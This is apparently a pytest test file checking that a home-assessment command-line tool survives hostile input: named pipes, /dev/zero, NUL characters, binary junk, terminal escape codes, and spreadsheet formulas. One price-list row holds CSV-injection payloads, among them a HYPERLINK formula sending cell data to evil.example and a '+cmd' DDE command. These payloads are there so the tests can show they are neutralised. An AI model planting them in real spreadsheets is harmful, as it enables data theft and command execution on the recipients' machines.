"""Hostile command-line input (issue 14): the DESIGN §4 contract holds for every one of them.

46 distinct hostile inputs, one test case each (one, the read-only folder, is skipped as root):

- 11 in a subprocess, where a hang, logging's stderr "last resort" or a closed pipe shows: a
  named pipe as photo, price list, scenario, ``report --out`` and ``orders --csv`` (5); /dev/zero
  as photo and as scenario, /dev/urandom as price list (3); an unexpected exception, whose
  traceback must reach the private log and never the terminal; stdout a closed pipe; Ctrl-C
  (SIGINT) during a command (3).
- 35 in-process through ``homeassess.app.main``: a folder as photo, price list, scenario,
  ``--out`` and ``--csv`` (5); a missing folder for ``--out`` and for ``--csv``, a file as the
  output's folder (3); a NUL character in a photo's name, a scenario path and ``--out`` (3);
  binary junk as CSV and as TOML, a 0-byte CSV, a huge line in a CSV and in a TOML file, invalid
  UTF-8 in a TOML file and in a CSV, an ESC in a TOML key (8); a ``--data-dir`` with a NUL
  character, that is a file, that cannot be created, inside a read-only folder (4); an unknown id
  prefix, a too short id, an unknown full id, an ambiguous prefix (4); tabs, newlines and ESC in a
  client's name (``clients``, ``assessments``), a photo file name with a tab and a newline, a bad
  photo whose name holds ESC and BEL, a setting value with a tab and a newline, a product name with
  a tab and a newline (``catalogue search``) (5); spreadsheet formulas (``=HYPERLINK``, ``@SUM``,
  ``+cmd``, ``-2+3``) in a price list, then the order CSV checked cell by cell (1); an injected
  RuntimeError and a KeyboardInterrupt (2).

Each asserts the exit code (0 or 1, 130 for an interrupt, never a crash), no "Traceback", no
temporary file names, no raw control characters on stdout or stderr, one ``error:`` line per
failure and the person's own path in it when a path is involved.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from homeassess.app import main
from homeassess.cli_output import escape_field
from tests.photo_helpers import make_jpeg

pytestmark = pytest.mark.e2e

TEMP_NAME = re.compile(r"\.tmp-|\.part\b|/\.[^/\s]+-[a-z0-9_]{8}\.[A-Za-z]+")
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]")  # tab and newline separate fields and rows
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Result:
    code: int
    out: str
    err: str


@dataclass
class Env:
    data: Path
    visit: str
    files: Path

    @property
    def short(self) -> str:
        return self.visit[:8]


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory, demo_template: tuple[Path, str]) -> Env:
    """A copy of the session's demo data folder, plus a folder of hostile files."""
    source, visit = demo_template
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    data.mkdir(mode=0o700)   # private, as HomeAssess makes it (a readable one is warned about)
    with sqlite3.connect(source / "homeassess.sqlite3") as src, sqlite3.connect(data / "homeassess.sqlite3") as dst:
        src.backup(dst)
    if (source / "photos").exists():
        shutil.copytree(source / "photos", data / "photos")
    files = root / "files"
    files.mkdir()
    (files / "a folder").mkdir()
    (files / "folder.pdf").mkdir()
    (files / "folder.csv").mkdir()
    (files / "a file").write_text("not a folder")
    for name in ("photo.jpg", "prices.csv", "scenario.toml", "out.pdf", "orders.csv"):
        os.mkfifo(files / f"fifo-{name}")
    make_jpeg(files / "good.jpg", (400, 300))
    return Env(data, visit, files)


def run(env: Env, capsys: pytest.CaptureFixture[str], *argv: str, data: Path | str | None = None) -> Result:
    code = main(["--data-dir", str(env.data if data is None else data), *argv])
    captured = capsys.readouterr()
    return Result(code, captured.out, captured.err)


def run_process(env: Env, *argv: str, timeout: float = 40, **kwargs: object) -> Result:
    environ = {k: v for k, v in os.environ.items() if k != "HOMEASSESS_DATA_DIR"}
    options: dict[str, object] = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **kwargs}
    done = subprocess.run([sys.executable, "-m", "homeassess", "--data-dir", str(env.data), *argv],
                          text=True, env=environ, timeout=timeout, **options)  # type: ignore[call-overload]
    return Result(done.returncode, done.stdout or "", done.stderr or "")


def check(result: Result, *, code: int = 1, errors: int = 1, path: Path | str | None = None) -> None:
    """The contract: exit code, one ``error:`` line per failure, nothing raw or internal shown."""
    assert result.code == code, result
    for stream in (result.out, result.err):
        assert "Traceback" not in stream, stream
        assert not RAW_CONTROL.search(stream), repr(stream)
    assert not TEMP_NAME.search(result.err), result.err
    error_lines = [line for line in result.err.splitlines() if line.startswith("error: ")]
    assert len(error_lines) == errors, result.err
    if code != 0:
        assert all(line.startswith(("error: ", "warning: ")) for line in result.err.splitlines()), result.err
    if path is not None:
        assert escape_field(str(path)) in result.err, result.err


# -- in a subprocess ---------------------------------------------------------------------------------
SUBPROCESS_INPUTS: dict[str, Callable[[Env], tuple[list[str], str | None]]] = {
    # name: (arguments, the path the message must name)
    "fifo-as-price-list": lambda e: (["catalogue", "import", str(e.files / "fifo-prices.csv")],
                                     str(e.files / "fifo-prices.csv")),
    "fifo-as-scenario": lambda e: (["scenario", str(e.files / "fifo-scenario.toml")],
                                   str(e.files / "fifo-scenario.toml")),
    "fifo-as-report-out": lambda e: (["report", e.short, "--kind", "family", "--out", str(e.files / "fifo-out.pdf")],
                                     str(e.files / "fifo-out.pdf")),
    "fifo-as-orders-csv": lambda e: (["orders", e.short, "--csv", str(e.files / "fifo-orders.csv")],
                                     str(e.files / "fifo-orders.csv")),
    "dev-zero-as-scenario": lambda e: (["scenario", "/dev/zero"], "/dev/zero"),
    "dev-urandom-as-price-list": lambda e: (["catalogue", "import", "/dev/urandom"], "/dev/urandom"),
}


@pytest.mark.parametrize("name", SUBPROCESS_INPUTS)
def test_special_files_are_refused_at_once_naming_the_path(env: Env, name: str) -> None:
    argv, path = SUBPROCESS_INPUTS[name](env)
    started = time.monotonic()
    result = run_process(env, *argv, timeout=30)
    check(result, path=path)
    assert "not a regular file" in result.err and time.monotonic() - started < 30


@pytest.mark.parametrize("special", ["fifo-photo.jpg", "/dev/zero"])
def test_a_special_file_among_photos_is_one_error_and_the_good_photo_still_imports(env: Env, special: str) -> None:
    path = special if special.startswith("/") else str(env.files / special)
    result = run_process(env, "photos", "add", env.short, "Bathroom", path, str(env.files / "good.jpg"), timeout=30)
    check(result, path=path)
    assert "not a regular file" in result.err
    [row] = result.out.splitlines()
    assert row.split("\t")[1:] == ["good.jpg", "Bathroom"]


BOOM = """
import sys
import homeassess.services.clients as C
def boom(*args, **kwargs):
    raise RuntimeError("boom in the service")
C.list_clients = boom
from homeassess.app import main
raise SystemExit(main(sys.argv[1:]))
"""


def test_an_unexpected_exception_is_one_line_and_its_traceback_goes_to_the_private_log(env: Env) -> None:
    environ = {k: v for k, v in os.environ.items() if k != "HOMEASSESS_DATA_DIR"}
    done = subprocess.run([sys.executable, "-c", BOOM, "--data-dir", str(env.data), "clients"],
                          capture_output=True, text=True, env=environ, timeout=40)
    result = Result(done.returncode, done.stdout, done.stderr)
    check(result)
    assert result.err.startswith("error: unexpected RuntimeError: boom in the service")
    log = env.data / "logs" / "homeassess.log"
    text = log.read_text(encoding="utf-8")
    assert "Traceback" in text and "boom in the service" in text
    if os.name == "posix":
        assert log.stat().st_mode & 0o777 == 0o600 and log.parent.stat().st_mode & 0o777 == 0o700


def test_a_closed_stdout_pipe_ends_quietly(env: Env) -> None:
    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader is gone before the first row is written, as with `| head -1` on a long list
    try:
        result = run_process(env, "clients", stdout=write_end)
    finally:
        os.close(write_end)
    check(result, code=0, errors=0)
    assert result.err == ""


def test_ctrl_c_during_a_command_is_one_line_and_exit_130(env: Env, tmp_path: Path) -> None:
    environ = {k: v for k, v in os.environ.items() if k != "HOMEASSESS_DATA_DIR"}
    child = subprocess.Popen([sys.executable, "-m", "homeassess", "--data-dir", str(tmp_path / "data"), "demo"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environ)
    time.sleep(1.0)  # mid-way: importing, migrating or building the demo visit
    child.send_signal(signal.SIGINT)
    out, err = child.communicate(timeout=40)
    if child.returncode == 0:
        pytest.skip("the demo finished before the interrupt arrived")
    # 130, or killed by SIGINT (the shell shows 130 too): CPython can end that way after a Ctrl-C
    # that arrived during an import, even though the command line caught it (about 1 run in 10).
    assert child.returncode in (130, -signal.SIGINT)
    check(Result(child.returncode, out, err), code=child.returncode)
    assert err == "error: interrupted\n"


# -- in-process ----------------------------------------------------------------------------------------
PATH_INPUTS: dict[str, Callable[[Env], tuple[list[str], Path | str]]] = {
    "folder-as-photo": lambda e: (["photos", "add", e.short, "Bathroom", str(e.files / "a folder")],
                                  e.files / "a folder"),
    "folder-as-price-list": lambda e: (["catalogue", "import", str(e.files / "a folder")], e.files / "a folder"),
    "folder-as-scenario": lambda e: (["scenario", str(e.files / "a folder")], e.files / "a folder"),
    "folder-as-report-out": lambda e: (["report", e.short, "--kind", "family", "--out", str(e.files / "folder.pdf")],
                                       e.files / "folder.pdf"),
    "folder-as-orders-csv": lambda e: (["orders", e.short, "--csv", str(e.files / "folder.csv")],
                                       e.files / "folder.csv"),
    "missing-folder-for-report-out": lambda e: (["report", e.short, "--kind", "clinical", "--out",
                                                 str(e.files / "no such folder" / "r.pdf")],
                                                e.files / "no such folder"),
    "missing-folder-for-orders-csv": lambda e: (["orders", e.short, "--csv", str(e.files / "nowhere" / "o.csv")],
                                                e.files / "nowhere"),
    "file-as-output-folder": lambda e: (["report", e.short, "--kind", "family", "--out",
                                         str(e.files / "a file" / "r.pdf")], e.files / "a file"),
    "nul-in-photo-name": lambda e: (["photos", "add", e.short, "Bathroom", str(e.files / "bad\x00name.jpg")],
                                    e.files / "bad\x00name.jpg"),
    "nul-in-scenario-path": lambda e: (["scenario", str(e.files / "s\x00.toml")], e.files / "s\x00.toml"),
    "nul-in-report-out": lambda e: (["report", e.short, "--kind", "family", "--out", str(e.files / "r\x00.pdf")],
                                    e.files / "r\x00.pdf"),
}


@pytest.mark.parametrize("name", PATH_INPUTS)
def test_unusable_paths_are_one_error_naming_the_path(env: Env, capsys: pytest.CaptureFixture[str], name: str) -> None:
    argv, path = PATH_INPUTS[name](env)
    result = run(env, capsys, *argv)
    check(result, path=path)
    assert result.out == ""


CONTENT_INPUTS: dict[str, tuple[str, bytes, str]] = {
    # name: (file name, content, command)
    "binary-junk-csv": ("junk.csv", bytes(range(256)) * 40, "catalogue"),
    "binary-junk-toml": ("junk.toml", bytes(range(256)) * 40, "scenario"),
    "empty-csv": ("empty.csv", b"", "catalogue"),
    "huge-line-csv": ("huge.csv", b"Supplier,Code,Name,Price\nAcme,A-1," + b"x" * 300_000 + b",1\n", "catalogue"),
    "huge-line-toml": ("huge.toml", b'title = "' + b"x" * 3_000_000 + b'"\n', "scenario"),
    "invalid-utf8-toml": ("latin.toml", b'title = "caf\xe9 \xff\xfe"\n', "scenario"),
    "esc-in-toml-key": ("esc.toml", b'ti\x1b[31mtle = "x"\n', "scenario"),
}


@pytest.mark.parametrize("name", CONTENT_INPUTS)
def test_hostile_file_content_is_one_short_clean_error(env: Env, capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                                       name: str) -> None:
    file_name, content, command = CONTENT_INPUTS[name]
    path = tmp_path / file_name
    path.write_bytes(content)
    argv = ["catalogue", "import", str(path)] if command == "catalogue" else ["scenario", str(path)]
    result = run(env, capsys, *argv)
    check(result, path=path)
    assert len(result.err) < 600, "short: a hostile file is never echoed at length"


def test_invalid_utf8_in_a_price_list_imports_cleanly(env: Env, capsys: pytest.CaptureFixture[str],
                                                      tmp_path: Path) -> None:
    path = tmp_path / "cp1252.csv"
    path.write_bytes(b"Supplier,Code,Name,Price\nAc\xffme,BAD-\x81\x9b1,Stool \x9b31m,\xa325\n")
    result = run(env, capsys, "catalogue", "import", str(path))
    check(result, code=result.code, errors=0 if result.code == 0 else result.err.count("error: "))
    assert result.code in (0, 1)


@pytest.mark.parametrize("data", ["nul", "file", "uncreatable", "read-only"])
def test_a_data_folder_that_cannot_be_used_is_one_error(env: Env, capsys: pytest.CaptureFixture[str],
                                                        tmp_path: Path, data: str) -> None:
    if data == "nul":
        folder: Path | str = str(tmp_path / "da\x00ta")
    elif data == "file":
        folder = tmp_path / "a file"
        folder.write_text("not a folder")
    elif data == "uncreatable":
        folder = Path("/proc/homeassess-hostile/data")  # no one, not even root, can make a folder here
    else:
        if os.name != "posix" or os.geteuid() == 0:
            pytest.skip("chmod does not stop root (or this is not POSIX)")
        locked = tmp_path / "locked"
        locked.mkdir()
        locked.chmod(0o500)
        folder = locked / "data"
    result = run(env, capsys, "clients", data=folder)
    if data == "read-only":
        (tmp_path / "locked").chmod(0o700)
    check(result, path=folder)


@pytest.mark.parametrize("ident", ["ffffffff", "abc", "00000000-0000-0000-0000-000000000000"])
def test_an_unknown_or_too_short_id_is_one_error(env: Env, capsys: pytest.CaptureFixture[str], ident: str) -> None:
    check(run(env, capsys, "report", ident, "--kind", "family", "--out", str(env.files / "x.pdf")))


def _sql(env: Env, statement: str, *params: object) -> None:
    with sqlite3.connect(env.data / "homeassess.sqlite3") as db:
        db.execute(statement, params)


def _new_client(env: Env, given: str, family: str) -> str:
    from homeassess.services import clients as C
    from homeassess.services.context import open_context

    client, _ = C.create_client(open_context(env.data), given_name=given, family_name=family, allow_duplicate=True)
    return client.id


def test_an_ambiguous_id_prefix_is_one_error(env: Env, capsys: pytest.CaptureFixture[str]) -> None:
    for n in (1, 2):  # two clients whose ids share their first 8 characters
        old = _new_client(env, "Twin", f"Number {n}")
        _sql(env, "UPDATE client SET id = ? WHERE id = ?", f"abcdef0{n}-0000-4000-8000-00000000000{n}", old)
    result = run(env, capsys, "assessments", "--client", "abcdef0")
    check(result)
    assert "more than one client" in result.err


def test_tabs_newlines_and_escapes_in_a_name_stay_inside_their_field(env: Env,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    client = _new_client(env, "Plain", "Name")
    _sql(env, "UPDATE client SET given_name = ?, family_name = ? WHERE id = ?",
         "Tab\there", "New\nline\r\x1b[31mred\\", client)
    from homeassess.services import assessments as A
    from homeassess.services.context import open_context

    A.create_assessment(open_context(env.data), client)
    listed = run(env, capsys, "clients")
    check(listed, code=0, errors=0)
    row = next(line for line in listed.out.splitlines() if line.startswith(client))
    assert row == f"{client}\tTab\\there New\\nline\\r\\x1b[31mred\\\\"
    visits = run(env, capsys, "assessments", "--client", client)
    check(visits, code=0, errors=0)
    [visit] = visits.out.splitlines()
    assert visit.split("\t")[1] == "Tab\\there New\\nline\\r\\x1b[31mred\\\\" and len(visit.split("\t")) == 5


def test_a_photo_name_with_a_tab_and_a_newline_is_one_escaped_row(env: Env, capsys: pytest.CaptureFixture[str],
                                                                  tmp_path: Path) -> None:
    photo = make_jpeg(tmp_path / "kitchen\tstep\nleft.jpg", (300, 200))
    result = run(env, capsys, "photos", "add", env.short, "Bathroom", str(photo))
    check(result, code=0, errors=0)
    [row] = result.out.splitlines()
    assert row.split("\t")[1:] == ["kitchen\\tstep\\nleft.jpg", "Bathroom"]


def test_a_bad_photo_with_an_escape_in_its_name_is_one_escaped_error(env: Env, capsys: pytest.CaptureFixture[str],
                                                                     tmp_path: Path) -> None:
    bad = tmp_path / "bad\x1b[2J\x07.jpg"
    bad.write_bytes(b"\x00\x01 not a photo \x1b]0;owned\x07")
    result = run(env, capsys, "photos", "add", env.short, "Bathroom", str(bad))
    check(result)
    assert "bad\\x1b[2J\\x07.jpg" in result.err


def test_a_setting_value_with_a_tab_and_newline_is_one_row_or_one_error(env: Env,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    result = run(env, capsys, "settings", "set", "organisation.name", "Acme\tOT\nServices")
    check(result, code=result.code, errors=0 if result.code == 0 else 1)
    shown = run(env, capsys, "settings", "show")
    check(shown, code=0, errors=0)
    assert all(len(line.split("\t")) == 2 for line in shown.out.splitlines())


def test_a_product_name_with_a_tab_and_newline_is_one_search_row(env: Env, capsys: pytest.CaptureFixture[str],
                                                                 tmp_path: Path) -> None:
    prices = tmp_path / "p.csv"
    prices.write_text("Supplier,Code,Name,Price\nZedCo,ZED-1,Zedstool plain,£9\n", encoding="utf-8")
    check(run(env, capsys, "catalogue", "import", str(prices)), code=0, errors=0)
    _sql(env, "UPDATE catalogue_item SET name = ? WHERE code = 'ZED-1'", "Zedstool\twith\nnewline")
    result = run(env, capsys, "catalogue", "search", "Zedstool")
    check(result, code=0, errors=0)
    [row] = result.out.splitlines()
    assert row.split("\t")[:3] == ["ZED-1", "ZedCo", "Zedstool\\twith\\nnewline"]


def test_formulas_from_a_price_list_never_reach_the_order_csv_as_formulas(env: Env,
                                                                        capsys: pytest.CaptureFixture[str],
                                                                        tmp_path: Path) -> None:
    from homeassess.services import catalogue as K
    from homeassess.services.context import open_context
    from homeassess.services.recommendations import list_recommendations

    prices = tmp_path / "evil.csv"
    with prices.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([
            ["Supplier", "Code", "Name", "Price", "Sizes", "Generic"],
            ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "45",
             "-2+3", "GEN-BED-002"],
        ])
    check(run(env, capsys, "catalogue", "import", str(prices)), code=0, errors=0)
    ctx = open_context(env.data)
    rec = next(r for r in list_recommendations(ctx, env.visit) if r.template_id == "rec.bedroom.bed_raisers")
    product = next(p for p in K.products_for_recommendation(ctx, rec.id) if p.code == "@SUM(1+1)")
    K.choose_product(ctx, rec.id, product.id)
    out = tmp_path / "orders.csv"
    result = run(env, capsys, "orders", env.visit, "--csv", str(out))
    check(result, code=0, errors=0)
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    header, lines = rows[0], rows[1:]
    numeric = {"Quantity", "Unit price", "Line total", "Height AFF (mm)"}
    for line in lines:
        for column, cell in zip(header, line, strict=True):
            if column in numeric:
                assert cell == "" or re.fullmatch(r"-?\d+(\.\d+)?", cell), (column, cell)
            else:
                assert not cell.startswith(FORMULA_START), (column, cell)
    evil = next(dict(zip(header, line)) for line in lines if "SUM(1+1)" in line[header.index("Supplier code")])
    assert evil["Supplier"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert evil["Supplier code"] == "'@SUM(1+1)"
    assert evil["Description"].startswith("'+cmd")


def test_an_injected_bug_is_one_error_line_and_no_traceback(env: Env, capsys: pytest.CaptureFixture[str],
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from homeassess.services import clients as C

    def boom(*_args: object, **_kwargs: object) -> None:
        raise RuntimeError("boom\nsecond line \x1b[31m")

    monkeypatch.setattr(C, "list_clients", boom)
    result = run(env, capsys, "clients")
    check(result)
    assert result.err.startswith("error: unexpected RuntimeError: boom\\nsecond line \\x1b[31m")


def test_keyboard_interrupt_is_one_line_and_exit_130(env: Env, capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    from homeassess.services import clients as C

    def interrupted(*_args: object, **_kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(C, "list_clients", interrupted)
    result = run(env, capsys, "clients")
    check(result, code=130)
    assert result.err == "error: interrupted\n"
